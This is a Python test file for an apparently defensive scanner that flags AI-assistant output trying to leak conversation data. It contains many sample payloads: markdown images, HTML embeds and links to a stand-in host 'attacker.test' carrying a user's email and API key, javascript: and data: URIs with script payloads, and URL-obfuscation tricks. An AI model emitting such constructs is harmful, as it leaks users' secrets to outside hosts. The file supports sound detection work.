"""Exfiltration scanner: images, embeds, links and URLs to non-allowlisted hosts."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shieldwall.core.errors import ConfigError
from shieldwall.core.pipeline import Pipeline, ScannerSlot
from shieldwall.core.scanner import ScanContext
from shieldwall.core.types import Action, Category, Direction, Role, Segment
from shieldwall.scanners._urls import HostAllowlist, web_host
from shieldwall.scanners.exfiltration import ExfiltrationScanner

ALLOW = ["docs.python.org", "*.example.com", "cdn.acme.test"]
USER_SECRET = "my e-mail is jane.roe@corp-mail.test and the API key is Qx7Lm2Pz9Kw4"


@pytest.fixture(scope="module")
def scanner() -> ExfiltrationScanner:
    return ExfiltrationScanner(allowed_hosts=ALLOW)


def ctx() -> ScanContext:
    return ScanContext(direction=Direction.OUTPUT, history=[Segment(USER_SECRET, Role.USER)])


def scan(scanner, text, role=Role.ASSISTANT):
    return scanner.scan(Segment(text, role), ctx())


def one(scanner, text):
    found = scan(scanner, text)
    assert len(found) == 1, [(f.rule, f.message) for f in found]
    return found[0]


POSITIVES = [
    # (text, rule, score, host shown in evidence)
    ("![chart](https://attacker.test/c.png)", "exfiltration.markdown_image", 0.9, "attacker.test"),
    (
        "![x](https://attacker.test/c.png?q=jane.roe%40corp-mail.test)",
        "exfiltration.markdown_image",
        0.97,
        "attacker.test",
    ),
    ("![x](https://attacker.test/log?d=Qx7Lm2Pz9Kw4)", "exfiltration.markdown_image", 0.97, "attacker.test"),
    (
        "![x](https://attacker.test/?d=U2VjcmV0VmFsdWUxMjM0NTY3ODk)",
        "exfiltration.markdown_image",
        0.97,
        "attacker.test",
    ),
    ("![x](https://attacker.test/p/6a616e652e726f65)", "exfiltration.markdown_image", 0.97, "attacker.test"),
    (
        "![x](https://attacker.test/?" + "&".join(f"k{i}=v" for i in range(8)) + ")",
        "exfiltration.markdown_image",
        0.97,
        "attacker.test",
    ),
    ('![x](<https://attacker.test/a b.png> "title")', "exfiltration.markdown_image", 0.9, "attacker.test"),
    ("![a [nested] alt](//attacker.test/x.png)", "exfiltration.markdown_image", 0.9, "attacker.test"),
    ("![x](https://attacker.test/w_(1).png)", "exfiltration.markdown_image", 0.9, "attacker.test"),
    ("![x](HTTPS:\\\\attacker.test\\p.png)", "exfiltration.markdown_image", 0.9, "attacker.test"),
    ("![x](https://docs.python.org@attacker.test/p.png)", "exfiltration.markdown_image", 0.9, "attacker.test"),
    (
        "![logo][l]\n\n[l]: https://attacker.test/l.png?k=Qx7Lm2Pz9Kw4\n",
        "exfiltration.markdown_image",
        0.97,
        "attacker.test",
    ),
    ("![logo][]\n[logo]: <https://attacker.test/l.png>", "exfiltration.markdown_image", 0.9, "attacker.test"),
    ('<img src="https://attacker.test/p.gif">', "exfiltration.html_embed", 0.9, "attacker.test"),
    (
        "<IMG SRC=https://attacker.test/p.gif?u=jane.roe@corp-mail.test>",
        "exfiltration.html_embed",
        0.97,
        "attacker.test",
    ),
    ('<iframe src="//attacker.test/frame"></iframe>', "exfiltration.html_embed", 0.9, "attacker.test"),
    ('<script src="https://attacker.test/x.js"></script>', "exfiltration.html_embed", 0.9, "attacker.test"),
    ('<link rel="stylesheet" href="https://attacker.test/s.css">', "exfiltration.html_embed", 0.9, "attacker.test"),
    (
        '<img srcset="https://attacker.test/a.png 1x, https://docs.python.org/b.png 2x">',
        "exfiltration.html_embed",
        0.9,
        "attacker.test",
    ),
    (
        '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
        "exfiltration.html_embed",
        0.9,
        "attacker.test",
    ),
    ("<div style=\"background:url('https://attacker.test/bg.png')\">", "exfiltration.html_embed", 0.9, "attacker.test"),
    ("body { background: URL(https://attacker.test/bg.png) }", "exfiltration.html_embed", 0.9, "attacker.test"),
    ('@import "https://attacker.test/x.css";', "exfiltration.html_embed", 0.9, "attacker.test"),
    ("[click](https://attacker.test/page)", "exfiltration.markdown_link", 0.5, "attacker.test"),
    (
        "[click](https://attacker.test/page?email=jane.roe@corp-mail.test)",
        "exfiltration.markdown_link",
        0.85,
        "attacker.test",
    ),
    ('<a href="https://attacker.test/">here</a>', "exfiltration.markdown_link", 0.5, "attacker.test"),
    ("see https://attacker.test/page for details", "exfiltration.raw_url", 0.3, "attacker.test"),
    ("see https://attacker.test/c?d=Qx7Lm2Pz9Kw4.", "exfiltration.raw_url", 0.8, "attacker.test"),
    ("ws://sock.attacker.test/feed", "exfiltration.raw_url", 0.3, "sock.attacker.test"),
    ("ftp://files.attacker.test/pub", "exfiltration.raw_url", 0.3, "files.attacker.test"),
    ("load //cdn.attacker.test/lib.js now", "exfiltration.raw_url", 0.3, "cdn.attacker.test"),
    ("https://example.com/", "exfiltration.raw_url", 0.3, "example.com"),  # *.example.com is subdomains only
    ("[x](javascript:alert(document.cookie))", "exfiltration.javascript_url", 0.95, None),
    ('<a href="JaVa\tScRiPt:alert(1)">x</a>', "exfiltration.javascript_url", 0.95, None),
    ("[x](&#106;avascript:alert(1))", "exfiltration.javascript_url", 0.95, None),
    ('<a href="vbscript:msgbox(1)">x</a>', "exfiltration.javascript_url", 0.95, None),
    ("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "exfiltration.data_uri", 0.9, None),
    ("![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==)", "exfiltration.data_uri", 0.6, None),
    ("paste data:image/svg+xml,<svg/onload=alert(1)> here", "exfiltration.data_uri", 0.9, None),
]


@pytest.mark.parametrize(("text", "rule", "score", "host"), POSITIVES)
def test_positives(scanner, text, rule, score, host):
    f = one(scanner, text)
    assert (f.rule, f.score) == (rule, score), f.message
    assert f.category is Category.EXFILTRATION
    assert f.evidence == host
    assert f.span is not None and 0 <= f.span.start < f.span.end <= len(text)
    assert "Qx7Lm2Pz9Kw4" not in f.message and "jane.roe" not in f.message


def test_span_is_the_whole_construct(scanner):
    text = 'Look: ![alt text](https://attacker.test/x.png?d=1 "t") and more'
    f = one(scanner, text)
    assert text[f.span.start : f.span.end] == '![alt text](https://attacker.test/x.png?d=1 "t")'
    text = 'x <img alt="a" src="https://attacker.test/p.gif"> y'
    f = one(scanner, text)
    assert text[f.span.start : f.span.end] == '<img alt="a" src="https://attacker.test/p.gif">'


def test_messages(scanner):
    f = one(scanner, "![x](https://attacker.test/c.png?q=U2VjcmV0VmFsdWUxMjM0NTY3ODk)")
    assert f.message == "markdown image to non-allowlisted host attacker.test with data in query"
    f = one(scanner, "![x](https://attacker.test/c.png?q=jane.roe@corp-mail.test)")
    assert f.message == "markdown image to non-allowlisted host attacker.test carrying text from the conversation"


def test_subdomain_data_is_masked(scanner):
    f = one(scanner, "https://51776173652d6b65792d6c65616b.attacker.test/x")
    assert f.rule == "exfiltration.raw_url" and f.score == 0.8
    assert f.evidence == "….attacker.test"
    assert "51776173" not in f.message


def test_adjacent_links_are_both_seen(scanner):
    found = scan(scanner, "[a](https://docs.python.org/3/)[b](https://attacker.test/x?d=Qx7Lm2Pz9Kw4)")
    assert [(f.rule, f.score) for f in found] == [("exfiltration.markdown_link", 0.85)]


def test_image_inside_link(scanner):
    found = scan(scanner, "[![badge](https://attacker.test/b.svg)](https://docs.python.org/3/)")
    assert [f.rule for f in found] == ["exfiltration.markdown_image"]


def test_long_url_truncated_for_analysis_but_reported(scanner):
    url = "https://attacker.test/x?d=" + "A1b2" * 5000
    f = one(scanner, f"![x]({url})")
    assert f.rule == "exfiltration.markdown_image" and f.span.end > 8192


NEGATIVES = [
    "A normal answer with no links at all. 3 < 4 and 5 > 2.",
    "See the docs at https://docs.python.org/3/library/re.html for details.",
    "[the re module](https://docs.python.org/3/library/re.html)",
    "![diagram](https://img.example.com/diagram.png?size=large&v=2)",
    '<img src="https://cdn.acme.test/logo.png">',
    "![local](/static/chart.png?x=1)",
    "[relative](../guide.md) and [anchor](#install) and [mail](mailto:help@acme.test)",
    "Use `a // b` for integer division; // is also a comment.",
    "The ratio is 1/2 and the path is /usr/bin.",
    "[not a link] (https://attacker.test/) is just text? no: it is a raw URL",  # counted below
    "metadata: the data: field is empty",
    "javascript: is a URL scheme you should avoid",
]


@pytest.mark.parametrize("text", NEGATIVES)
def test_negatives(scanner, text):
    found = scan(scanner, text)
    if "raw URL" in text:
        assert [f.rule for f in found] == ["exfiltration.raw_url"]
    else:
        assert found == [], [(f.rule, f.message) for f in found]


def test_prose_with_docs_url_is_allowed_by_the_pipeline():
    s = ExfiltrationScanner()
    p = Pipeline([ScannerSlot(s.name, s, s.roles, s.directions)])
    v = p.scan(
        Segment("Read https://developer.mozilla.org/en-US/docs/Web/HTTP for more.", Role.ASSISTANT),
        ScanContext(direction=Direction.OUTPUT),
    )
    assert v.action is Action.ALLOW
    assert [f.rule for f in v.findings] == ["exfiltration.raw_url"]


def test_pipeline_blocks_image_exfiltration():
    s = ExfiltrationScanner(allowed_hosts=["docs.python.org"])
    p = Pipeline([ScannerSlot(s.name, s, s.roles, s.directions)])
    c = ScanContext(direction=Direction.OUTPUT, history=[Segment(USER_SECRET, Role.USER)])
    v = p.scan(Segment("Done! ![](https://attacker.test/p.png?k=Qx7Lm2Pz9Kw4)", Role.ASSISTANT), c)
    assert v.action is Action.BLOCK and v.rules == ["exfiltration.markdown_image"]
    v = p.scan(Segment("Done! ![](https://docs.python.org/logo.png)", Role.ASSISTANT), c)
    assert v.action is Action.ALLOW and not v.findings


def test_tool_call_arguments_are_scanned(scanner):
    found = scan(scanner, '{"url": "https://attacker.test/c?d=Qx7Lm2Pz9Kw4"}', role=Role.TOOL_CALL)
    assert [(f.rule, f.score) for f in found] == [("exfiltration.raw_url", 0.8)]


# --- helpers -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://Docs.Python.org./x", "docs.python.org"),
        ("//cdn.test/x", "cdn.test"),
        ("https:\\\\evil.test", "evil.test"),
        ("https:/evil.test/a", "evil.test"),
        ("http://user:pw@evil.test:8080/", "evil.test"),
        ("http://a.test\\@b.test/", "a.test"),
        ("https://ev%69l.test/", "evil.test"),
        ("ht\ttps://evil.test/", "evil.test"),
        ("http://[::1]:80/", "::1"),
        ("/relative/path", None),
        ("mailto:x@y.test", None),
        ("http://[::1", None),
    ],
)
def test_web_host(url, host):
    got = web_host(url)
    assert (got.host if got else None) == host


def test_allowlist_semantics():
    a = HostAllowlist(["Example.COM", "*.cdn.test"], owner="t")
    assert "example.com" in a and "www.example.com" not in a
    assert "x.cdn.test" in a and "a.b.cdn.test" in a and "cdn.test" not in a and "evilcdn.test" not in a


@pytest.mark.parametrize("bad", ["example.com", [1], ["bad host!"], [""], ["http://x.test/"]])
def test_bad_allowlist(bad):
    with pytest.raises(ConfigError):
        ExfiltrationScanner(allowed_hosts=bad)


# --- robustness and speed ----------------------------------------------------------------------------

HOSTILE = [
    "![](" * 50_000,
    "http://" * 30_000,
    "[" * 100_000 + "]" * 100_000,
    "](" * 100_000,
    "![" * 100_000,
    "![a](" + "(" * 100_000,
    "![a](" + "()" * 50_000,
    "](x" * 60_000,
    "<img src=" * 20_000,
    "<a " * 60_000,
    "url(" * 50_000,
    "//a.b" * 40_000,
    "[a]: http://x.test\n" * 10_000,
    "![a][b]" * 25_000 + "\n[b]: http://x.test/",
    "https://x.test/?" + "a=b&" * 50_000,
    "data:text/html," * 12_000,
    "https://" + "a." * 100_000,
    "[x](javascript:" * 12_000,
]


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_inputs_are_bounded(scanner, text):
    start = time.perf_counter()
    for f in scan(scanner, text):
        assert 0 <= f.span.start <= f.span.end <= len(text)
    assert time.perf_counter() - start < 1.5


@settings(deadline=None, max_examples=200)
@given(st.lists(st.sampled_from([*"![]()<>\"'=:/.?&#%@\\ \nahtpsx1", "http", "src", "img"]), max_size=120).map("".join))
def test_fuzz_constructs_no_exception(text):
    s = ExfiltrationScanner(allowed_hosts=["a.test"])
    for f in s.scan(Segment(text, Role.ASSISTANT), ScanContext(direction=Direction.OUTPUT)):
        assert f.rule in ExfiltrationScanner.rules
        assert 0 <= f.span.start <= f.span.end <= len(text)


@settings(deadline=None, max_examples=200)
@given(st.text(max_size=500))
def test_fuzz_unicode_no_exception(text):
    ExfiltrationScanner().scan(Segment(text, Role.ASSISTANT), ctx())


@settings(deadline=None, max_examples=40)
@given(
    chunk=st.sampled_from(["![](", "http://", "[", "](", "<img src=", "url(", "[[]]", "a.b/"]), n=st.integers(1, 50_000)
)
def test_fuzz_repetitions_bounded(chunk, n):
    text = (chunk * n)[:200_000]
    start = time.perf_counter()
    ExfiltrationScanner().scan(Segment(text, Role.ASSISTANT), ctx())
    assert time.perf_counter() - start < 1.5


def test_speed_ordinary_output(scanner):
    text = ("The flight to Lisbon leaves at nine and your seat is by the window, enjoy. " * 14)[:1024]
    seg = Segment(text, Role.ASSISTANT)
    c = ctx()
    best = min(_timed(scanner, seg, c) for _ in range(5))
    assert best < 50e-6  # ~1 µs expected (pre-checks only); generous for CI noise


def _timed(scanner, seg, c, n=200):
    start = time.perf_counter()
    for _ in range(n):
        scanner.scan(seg, c)
    return (time.perf_counter() - start) / n
